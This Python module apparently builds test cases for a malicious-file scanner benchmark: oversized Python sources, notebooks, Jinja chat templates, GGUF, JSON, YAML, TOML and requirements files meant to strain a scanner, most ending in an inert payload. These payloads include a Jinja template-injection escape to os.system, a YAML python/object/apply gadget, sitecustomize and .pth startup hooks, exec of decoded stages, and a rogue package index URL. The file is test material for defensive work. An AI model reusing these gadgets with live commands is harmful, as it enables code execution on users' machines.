"""Python, notebooks, templates and configuration whose reading costs more than their size suggests."""

from __future__ import annotations

import json
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import plain
from benchmarks.corpus.malicious.formats.templates import gguf

_TAIL = "\nimport os\nos.system('echo toadstone-inert')\n"


def _sources() -> dict[str, str]:
    doubling = "".join(f"def f{i}(x): return f{i - 1}(x) + f{i - 1}(x)\n" for i in range(1, 3000))
    return {
        "same-call": "import os\n" + "os.getpid()\n" * 200_000,
        "many-calls": "import os\n" + "".join(f'os.system("echo {i}")\n' for i in range(60_000)),
        "many-imports": "".join(f"import m{i}\n" for i in range(150_000)),
        "many-functions": "".join(f"def f{i}(): pass\n" for i in range(100_000)),
        "many-classes": "".join(f"class C{i}(C{i - 1}): pass\n" for i in range(1, 60_000)),
        "functions-doubling": "def f0(x): return x\n" + doubling + "eval(f2999('a'))\n",
        "functions-chain": "".join(f"def f{i}(x): return f{i + 1}(x)\n" for i in range(20_000)) + "f0('a')\n",
        "functions-mutual": "".join(f"def f{i}(): f{(i * 7 + 1) % 3000}(); f{(i * 3 + 2) % 3000}()\n" for i in range(3000))
        + "f0()\n",
        "strings-added": "x = " + " + ".join(["'abcdefgh'"] * 100_000) + "\nexec(x)\n",
        "strings-doubling": "a0 = 'ab' * 100\n"
        + "".join(f"a{i} = a{i - 1} + a{i - 1}\n" for i in range(1, 200))
        + "exec(a199)\n",
        "strings-multiplied": "x = 'a' * 10 ** 12\nexec(x)\n" * 2000,
        "strings-joined": "x = ''.join([" + "'a', " * 100_000 + "])\nexec(x)\n",
        "strings-grown": "x = 'a'\n" + "x += 'abcdefgh'\n" * 60_000 + "exec(x)\n",
        "lists-grown": "x = []\n" + "x.append('a')\n" * 60_000 + "exec(''.join(x))\n",
        "dicts-grown": "x = {}\n" + "".join(f"x[{i}] = 'a'\n" for i in range(60_000)),
        "numbers-powers": "x = 9 ** 9 ** 9\n" * 20_000,
        "numbers-shifted": "x = 1 << 10 ** 9\n" * 20_000,
        "comprehensions": "x = [[[[chr(a) for a in r(4000)] for b in r(4000)] for c in r(4000)] for d in r(4000)]\n" * 500,
        "comprehension-decode": "exec(''.join(chr(c ^ 7) for c in [" + "104, " * 60_000 + "]))\n",
        "exec-of-exec": "exec('exec(' + repr('x') + ')')\n" * 20_000,
        "exec-text-large": "exec('" + "x=1;" * 60_000 + "')\n" * 1,
        "base64-stages": "import base64\n" + "exec(base64.b64decode('" + "QUFB" * 40_000 + "'))\n" * 8,
        "decompress-stages": "import zlib\n" + "exec(zlib.decompress(zlib.compress(b'a' * 10 ** 9)))\n" * 2000,
        "f-strings-many": "x = f'{a}{b}{c}'\n" * 60_000,
        "lambda-calls": "x = " + "(lambda x: " * 80 + "1" + ")(1)" * 80 + "\n",
        "subscripts": "x = a" + "[0]" * 200_000 + "\n",
        "comparisons": "x = 1" + " < 1" * 100_000 + "\n",
        "boolean-chain": "x = a" + " or a" * 100_000 + "\n",
        "ternaries": "x = " + "a if b else " * 50_000 + "c\n",
        "long-names": ("n" * 100_000 + " = 1\n") * 20,
        "semicolons": "a;" * 400_000 + "\n",
        "backslashes": "x = 1 \\\n + " * 100_000 + "1\n",
        "triple-quotes": '"""' * 100_001 + "\n",
        "quote-flood": "'\n" * 400_000,
        "comments": "# " + "import os " * 400_000 + "\n",
        "tabs": "\t" * 1_000_000 + "x\n",
        "global-names": "def f():\n global " + ", ".join(f"n{i}" for i in range(50_000)) + "\n",
        "match": "match x:\n" + "".join(f" case {i}: pass\n" for i in range(50_000)),
        "try": "try: pass\n" + "except A: pass\n" * 50_000,
        "with": "with a" + ", a" * 50_000 + ": pass\n",
        "stars": "from os import *\n" * 50_000 + "system('echo')\n" * 20_000,
        "aliases": "import os\na0 = os\n" + "".join(f"a{i} = a{i - 1}\n" for i in range(1, 60_000)) + "a59999.system('echo')\n",
        "branches": "import os\nx = os.getpid\n" + "".join(f"if a: x = os.f{i}\n" for i in range(30_000)) + "x()\n",
        "getattr-chain": "import os\nx = os\n" + "x = getattr(x, 'a')\n" * 40_000,
        "decorators-nested": "".join("@" + "d(" * 40 + ")" * 40 + f"\ndef f{i}(): pass\n" for i in range(2000)),
    }


def _python() -> Iterator[Case]:
    for name, text in _sources().items():
        yield Case(f"source-{name}.py", (text + _TAIL).encode(), f"python-{name}")
    for name in ("many-functions", "same-call"):
        yield Case(f"startup-{name}/sitecustomize.py", (_sources()[name] + _TAIL).encode(), f"python-{name}")
    members = [(f"m{number}.py", ("x = 1\n" * 20_000).encode()) for number in range(100)]
    yield Case("sources-100-packed.zip", plain(members, method=8), "many-members", payload=False)
    lines = "import os; os.getpid()\n" * 100_000
    yield Case("startup-lines.pth", (lines + "import os; os.system('echo inert')\n").encode(), "python-startup")


def _notebooks() -> Iterator[Case]:
    def book(cells: list[str]) -> bytes:
        made = [{"cell_type": "code", "source": cell, "metadata": {}, "outputs": []} for cell in cells]
        return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}).encode()

    yield Case("notebook-many-cells.ipynb", book(["x = 1"] * 20_000 + [_TAIL]), "notebook-cells", "harmless-arguments")
    functions = [f"def f{i}(x):\n    return f{i - 1}(x)" for i in range(1, 5000)]
    yield Case("notebook-many-functions.ipynb", book([*functions, "f4999(1)", _TAIL]), "notebook-cells", "harmless-arguments")
    yield Case("notebook-many-magics.ipynb", book(["!echo a\n" * 20_000, _TAIL]), "notebook-cells", "harmless-arguments")
    yield Case("notebook-long-cell.ipynb", book(["x = 1\n" * 200_000, _TAIL]), "notebook-cells", "harmless-arguments")


def _templates() -> Iterator[Case]:
    size = 120 << 10
    units = {
        "prints": "{{a}}",
        "sets": "{% set a = a ~ b %}",
        "triggers": "{% if 'x' in messages[0]['content'] %}y{% endif %}",
        "loops": "{% for m in messages %}{{m.content}}{% endfor %}",
        "state": "{% if messages[0].content == 'a' %}{% set s = s + 'b' %}{% endif %}",
        "macros": "{% macro f(x) %}{{ x }}{% endmacro %}{{ f(messages) }}",
        "joins": "{{ ['a','b','c']|join('x')|replace('x','y')|upper }}",
    }
    texts = {name: unit * (size // len(unit)) for name, unit in units.items()}
    texts["chain"] = "".join(f"{{% set a{i} = a{i - 1} ~ a{i - 1} %}}" for i in range(1, 3500)) + "{% if a3499 %}x{% endif %}"
    texts["elifs"] = "{% if messages[0].content == 'a' %}x" + "{% elif messages[0].content == 'b' %}y" * 2500 + "{% endif %}"
    copied = "".join(f"{{% set a{i} = a{(i + 1) % 2000} %}}" for i in range(2000))
    texts["rounds"] = "{% for m in messages %}" + copied + "{% if a0 == 'x' %}y{% endif %}{% endfor %}"
    tail = "{{ cycler.__init__.__globals__.os.system('echo inert') }}"
    for name, text in texts.items():
        yield Case(f"template-{name}/chat_template.jinja", (text + tail).encode(), f"template-{name}")
    long = "{{ a }}" * 60_000 + tail
    yield Case("template-over-bound/chat_template.jinja", long.encode(), "template-over-bound")
    several = {f"tokenizer.chat_template.t{i}": texts["prints"] for i in range(40)}
    last = {"tokenizer.chat_template": tail}
    yield Case("template-forty.gguf", gguf({"general.architecture": "llama", **several, **last}), "template-forty")
    listed = {"chat_template": [{"name": f"t{i}", "template": texts["triggers"]} for i in range(40)]}
    yield Case("template-forty/tokenizer_config.json", json.dumps(listed).encode(), "template-forty", payload=False)


def _configurations() -> Iterator[Case]:
    two = b'{"auto_map": {"AutoModel": "one--m.C"}, "auto_map": {"AutoModel": "two--m.C"}}'
    yield Case("json-conflicting-key/config.json", two, "json-conflicting-key")
    tree = {"tree": [{"nodes": [{"s": 0.5, "l": i, "r": i, "v": [0.1]} for i in range(100)]} for _ in range(1500)]}
    bodies: dict[str, bytes] = {
        "nested-records": json.dumps({"data": [{"a": {"b": [1, 2, {"c": [3, {"d": i}]}]}} for i in range(100_000)]}).encode(),
        "trees": json.dumps(tree).encode(),
        "strings": json.dumps([f"word {i}" for i in range(400_000)]).encode(),
        "escapes": b'["' + b"\\u00e9" * 500_000 + b'"]',
        "empty-objects": b"[" + b"{}," * 1_000_000 + b"{}]",
        "empty-lists": b"[" + b"[]," * 1_000_000 + b"[]]",
        "encoded": json.dumps({f"k{i}": "gASVAAAA" * 20 for i in range(10_000)}).encode(),
        "placeholders": json.dumps({f"template{i}": "{{ a }}" for i in range(30_000)}).encode(),
        "targets": json.dumps([{"_target_": f"a.b{i}", "x": "${oc.env:HOME}"} for i in range(30_000)]).encode(),
        "same-target": json.dumps([{"_target_": "a.b", "x": i} for i in range(40_000)]).encode(),
        "quotes": b'{"a' + b'":"' * 500_000,
        "comments": b"{" + b"// x\n" * 300_000 + b'"a":1}',
        "slashes": b"{" + b"/*" * 1_000_000,
        "commas": b"[" + b"1, " * 500_000 + b"]",
    }
    dirty = {"quotes", "slashes"}
    for name, data in bodies.items():
        label = "malicious" if name in dirty else "harmless-arguments"
        yield Case(f"json-{name}.json", data, f"json-{name}", label, payload=False)
    lines = b'{"a": 1}\n' * 300_000
    yield Case("json-lines.json", lines, "json-lines", "harmless-arguments", payload=False)
    yaml = {
        "many-keys": "".join(f"k{i}: v\n" for i in range(100_000)),
        "alias-list": "a: &a [1, 2, 3]\nb: [" + "*a, " * 100_000 + "]\n",
        "anchors-nested": "".join(f"{' ' * i}a: &x{i}\n" for i in range(800)),
        "quoted": "a: '" + "''" * 1_000_000 + "'\n",
        "block-scalar": "a: |\n" + "  x\n" * 400_000,
        "flow-many": "a: [" + "{b: c}, " * 50_000 + "]\n",
        "tags-long": "a: !<tag:" + "x" * 1_000_000 + "> b\n",
        "directives": "%TAG !e! tag:e,2000:\n" * 50_000 + "---\na: 1\n",
        "comments": "# x\n" * 400_000 + "a: 1\n",
        "tabs": "a:\n" + "\t" * 500_000 + "b\n",
        "complex-keys": "? " * 5000 + "a\n",
    }
    for name, text in yaml.items():
        yield Case(f"yaml-{name}.yaml", (text + "\nz: !!python/object/apply:os.system ['echo inert']\n").encode(), f"yaml-{name}")
    toml = {
        "many-tables": "".join(f"[t{i}]\na = 1\n" for i in range(40_000)),
        "deep-keys": "a" + ".a" * 100_000 + " = 1\n",
        "arrays": "a = " + "[" * 100_000,
        "inline": "a = " + "{a=" * 50_000,
        "array-tables": "[[a]]\n" * 100_000,
        "long-word": "a = '" + "b" * 900_000 + "'\n",
        "quotes": "a = [" + "''," * 250_000 + "]\n",
    }
    for name, text in toml.items():
        yield Case(f"toml-{name}.toml", text.encode(), f"toml-{name}", "harmless-arguments", payload=False)
    requirements = "package==1.0\n" * 200_000 + "--index-url http://192.0.2.1/simple\nevil\n"
    yield Case(
        "requirements-many/requirements.txt", requirements.encode(), "requirements-many", "harmless-arguments", payload=False
    )


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _python()
    yield from _notebooks()
    yield from _templates()
    yield from _configurations()
